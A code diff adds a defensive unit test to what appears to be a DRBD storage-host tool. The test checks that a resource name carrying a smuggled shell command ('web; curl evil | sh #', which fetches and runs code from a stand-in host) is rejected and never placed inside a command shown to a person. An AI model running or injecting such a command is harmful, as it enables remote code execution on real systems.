@@ -78,6 +78,14 @@ def test_a_disk_is_what_it_is_on_its_host(disks: Any, storage: Any, template: st
     assert one.admin_state == "down"
 
 
+def test_no_text_of_a_host_is_part_of_a_command_that_a_person_is_told_to_run() -> None:
+    pair = hosts.resource("web; curl evil | sh #", 3, "h1", "h2")
+    line = left_out(hosts.host(1, WEB, resources=(pair,), volumes={}), hosts.host(2, resources=(pair,)))
+    assert line.startswith("web: ")
+    assert "is not the name of a DRBD resource" in line
+    assert "`" not in line
+
+
 def test_what_cannot_be_represented_is_left_out_with_what_to_do() -> None:
     three = hosts.resource("web", 3, "h1", "h2", "h3")
     unlike = hosts.resource("web", 3, "h1", "h2", h2=4)
